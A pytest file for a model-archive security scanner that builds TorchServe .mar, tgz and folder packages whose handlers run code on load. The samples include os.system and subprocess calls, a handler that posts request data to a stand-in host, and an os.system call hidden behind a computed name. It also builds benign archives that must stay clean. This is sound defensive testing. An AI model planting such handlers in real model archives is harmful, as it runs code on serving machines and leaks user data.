"""Sweep 19: formats and checks the peer scanners have that loopwarden lacked.

TorchServe model archives (``.mar``): registering one (``torchserve --models m=model.mar``, the management API)
extracts it, puts its folder on ``sys.path`` and imports the manifest's ``handler`` module
(``ts.model_loader.TsModelLoader.load``, torchserve 0.12.0), whose module code, ``initialize`` and the modules it
imports run on the serving machine. modelaudit reports such handler code; every case below scanned ``clean`` before
this round (a zip, a tgz and a plain folder alike). Every input is built here by code and only scanned; the
real-loader step runs in a child process and leaves a marker file.
"""

from __future__ import annotations

import io
import json
import pickle
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from test_container_bypasses import scan

from loopwarden.domain import Severity, Verdict

_MANIFEST = json.dumps(
    {
        "createdOn": "29/11/2026 19:00:00",
        "runtime": "python",
        "model": {
            "modelName": "m",
            "serializedFile": "model.pt",
            "handler": "handler.py",
            "modelVersion": "1.0",
        },
        "archiverVersion": "0.12.0",
    }
).encode()
_WEIGHTS = pickle.dumps({"fc.weight": [1.0, 2.0]}, protocol=2)

_AT_IMPORT = (
    b"import os\nos.system('touch /tmp/lw-r19-marker')\n\n"
    b"class H:\n    def handle(self, data, ctx):\n        return data\n"
)
_IN_INITIALIZE = (
    b"import subprocess\n\nclass H:\n    def initialize(self, ctx):\n        subprocess.run(['id'])\n\n"
    b"    def handle(self, data, ctx):\n        return data\n"
)
_NETWORK = (
    b"import urllib.request\n\nclass H:\n    def handle(self, data, ctx):\n"
    b"        urllib.request.urlopen('http://example.invalid/', data=repr(data).encode())\n        return data\n"
)
_HIDDEN = b"import os\nf = getattr(os, 'sys' + 'tem')\nf('id')\n"

_BENIGN_HANDLER = b"""import json
import os

import torch
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        super().initialize(context)
        model_dir = context.system_properties.get("model_dir")
        with open(os.path.join(model_dir, "index_to_name.json")) as f:
            self.mapping = json.load(f)
        self.extra = torch.load(os.path.join(model_dir, "extra.pt"), map_location="cpu")

    def preprocess(self, data):
        return torch.tensor([row.get("data") or row.get("body") for row in data], dtype=torch.float32)

    def postprocess(self, data):
        return [self.mapping.get(str(int(i)), "?") for i in data.argmax(1).tolist()]
"""
_BENIGN_MODEL = (
    b"import torch\n\n\nclass Net(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n"
    b"        self.fc = torch.nn.Linear(2, 2)\n\n    def forward(self, x):\n        return self.fc(x)\n"
)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, (2026, 11, 29, 0, 0, 0)), data)
    return out.getvalue()


def _tgz(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _mar(handler: bytes, **extra: bytes) -> list[tuple[str, bytes]]:
    return [
        ("MAR-INF/MANIFEST.json", _MANIFEST),
        ("model.pt", _WEIGHTS),
        ("handler.py", handler),
        *extra.items(),
    ]


_CASES: dict[str, dict[str, bytes]] = {
    # the handler's module code runs when TorchServe imports it
    "r19_mar_handler_at_import": {"model.mar": _zip(_mar(_AT_IMPORT))},
    # initialize() runs when the model is registered, before any request
    "r19_mar_handler_initialize": {"model.mar": _zip(_mar(_IN_INITIALIZE))},
    # handle() sends each request away
    "r19_mar_handler_network": {"model.mar": _zip(_mar(_NETWORK))},
    # the handler only imports a helper package of the archive, which hides the call behind a computed name
    "r19_mar_helper_package": {
        "model.mar": _zip(
            _mar(b"from pkg import util\n", **{"pkg/__init__.py": b"", "pkg/util.py": _HIDDEN})  # type: ignore[arg-type]
        )
    },
    # members spelled './x' (extracted to x), the archive under another name
    "r19_mar_dot_slash_zip": {
        "model.zip": _zip([("./MAR-INF/MANIFEST.json", _MANIFEST), ("./handler.py", _AT_IMPORT)])
    },
    # the eager-mode model file (BaseHandler imports the manifest's modelFile)
    "r19_mar_model_file": {"resnet.mar": _zip(_mar(_BENIGN_HANDLER, **{"model.py": _AT_IMPORT}))},  # type: ignore[arg-type]
    # torch-model-archiver --archive-format tgz: the model folder inside a folder of its own
    "r19_mar_tgz": {
        "m.tar.gz": _tgz(
            [
                ("m/MAR-INF/MANIFEST.json", _MANIFEST),
                ("m/handler.py", b"import helpers\n"),
                ("m/helpers.py", _IN_INITIALIZE),
            ]
        )
    },
    # --archive-format no-archive: the folder TorchServe serves as it is
    "r19_mar_no_archive_folder": {
        "m/MAR-INF/MANIFEST.json": _MANIFEST,
        "m/model.pt": _WEIGHTS,
        "m/handler.py": _BENIGN_HANDLER,
        "m/utils/pre.py": _AT_IMPORT,
    },
}


def bench_cases() -> dict[str, dict[str, bytes]]:
    """The TorchServe archives of this file: each scanned clean before round 19."""
    return {name: dict(files) for name, files in _CASES.items()}


@pytest.mark.parametrize("case", sorted(_CASES))
def test_torchserve_archive_code_is_reported(tmp_path: Path, case: str) -> None:
    """Scanned clean before this round (torchserve 0.12.0 imports the handler: see the module docstring)."""
    results = scan(tmp_path, _CASES[case])
    bad = [t for t in results if t.verdict is not Verdict.CLEAN]
    assert bad, results
    findings = [f for t in bad for f in t.findings]
    assert {f.rule_id for f in findings} == {"LW-MODEL-050"}, findings
    worst = max(f.severity for f in findings)
    assert worst >= (Severity.HIGH if case == "r19_mar_handler_network" else Severity.CRITICAL), findings
    assert all(t.verdict is Verdict.FINDINGS for t in bad), bad


_BENIGN: dict[str, dict[str, bytes]] = {
    # a built-in handler: no code in the archive
    "builtin-handler": {
        "model.mar": _zip(
            [
                ("MAR-INF/MANIFEST.json", _MANIFEST.replace(b"handler.py", b"image_classifier")),
                ("model.pt", _WEIGHTS),
                ("index_to_name.json", b'{"0": "cat", "1": "dog"}'),
            ]
        )
    },
    # a custom handler reading its own label map and weights, and an eager-mode model file
    "custom-handler": {"resnet.mar": _zip(_mar(_BENIGN_HANDLER, **{"model.py": _BENIGN_MODEL}))},  # type: ignore[arg-type]
    "custom-handler-tgz": {
        "m.tar.gz": _tgz([("m/MAR-INF/MANIFEST.json", _MANIFEST), ("m/handler.py", _BENIGN_HANDLER)])
    },
    "no-archive-folder": {
        "m/MAR-INF/MANIFEST.json": _MANIFEST,
        "m/handler.py": _BENIGN_HANDLER,
        "m/model.py": _BENIGN_MODEL,
    },
    # a zip that is no TorchServe archive: its sources are not imported by anything (unchanged)
    "zip-without-manifest": {"code.zip": _zip([("handler.py", _AT_IMPORT)])},
    # a folder without a manifest: not a served model (unchanged)
    "folder-without-manifest": {"m/handler.py": _AT_IMPORT},
}


@pytest.mark.parametrize("case", sorted(_BENIGN))
def test_benign_torchserve_archives_stay_clean(tmp_path: Path, case: str) -> None:
    results = scan(tmp_path, _BENIGN[case])
    assert all(t.verdict is Verdict.CLEAN for t in results), results


def test_archiver_made_mar_stays_clean(tmp_path: Path) -> None:
    """A .mar written by torch-model-archiver itself (when installed) with a custom handler and model file."""
    pytest.importorskip("model_archiver")
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "handler.py").write_bytes(_BENIGN_HANDLER)
    (tmp_path / "src" / "model.py").write_bytes(_BENIGN_MODEL)
    (tmp_path / "src" / "model.pt").write_bytes(_WEIGHTS)
    (tmp_path / "out").mkdir()
    subprocess.run(
        [
            sys.executable,
            "-m",
            "model_archiver.model_packaging",
            "--model-name",
            "m",
            "--version",
            "1.0",
            "--serialized-file",
            str(tmp_path / "src" / "model.pt"),
            "--model-file",
            str(tmp_path / "src" / "model.py"),
            "--handler",
            str(tmp_path / "src" / "handler.py"),
            "--export-path",
            str(tmp_path / "out"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    data = (tmp_path / "out" / "m.mar").read_bytes()
    results = scan(tmp_path / "scan", {"m.mar": data})
    assert all(t.verdict is Verdict.CLEAN for t in results), results


def test_torchserve_loader_runs_the_handler(tmp_path: Path) -> None:
    """torchserve's own model loader imports the extracted archive's handler (module code runs)."""
    pytest.importorskip("ts.model_loader")
    marker = tmp_path / "marker"
    handler = _AT_IMPORT.replace(b"/tmp/lw-r19-marker", str(marker).encode())
    served = tmp_path / "served"
    with zipfile.ZipFile(io.BytesIO(_zip(_mar(handler)))) as zf:
        zf.extractall(served)
    code = (
        "import sys; sys.path.insert(0, '.')\n"
        "from ts.model_loader import TsModelLoader\n"
        "try:\n    TsModelLoader().load('m', '.', handler='handler.py', gpu_id=None, batch_size=1)\n"
        "except Exception:\n    pass\n"
    )
    subprocess.run([sys.executable, "-c", code], cwd=served, capture_output=True, timeout=120)
    assert marker.exists()
    assert scan(tmp_path / "scan", {"model.mar": _zip(_mar(handler))})[0].verdict is Verdict.FINDINGS


@pytest.mark.parametrize("member", ["handler.pyc", "handler.cpython-311-x86_64-linux-gnu.so"])
def test_compiled_handler_stays_unverified(tmp_path: Path, member: str) -> None:
    """A handler shipped compiled (a sourceless ``.pyc`` or an extension module, both importable from the archive's
    folder) cannot be judged: already unverified before this round, and it stays so."""
    import importlib.util
    import marshal

    code = compile("import os\nos.system('id')\n", "handler.py", "exec")
    data = (
        importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
        if member.endswith(".pyc")
        else b"\x7fELF\x02\x01\x01" + b"\0" * 57
    )
    results = scan(tmp_path, {"model.mar": _zip([("MAR-INF/MANIFEST.json", _MANIFEST), (member, data)])})
    assert results[0].verdict is not Verdict.CLEAN, results
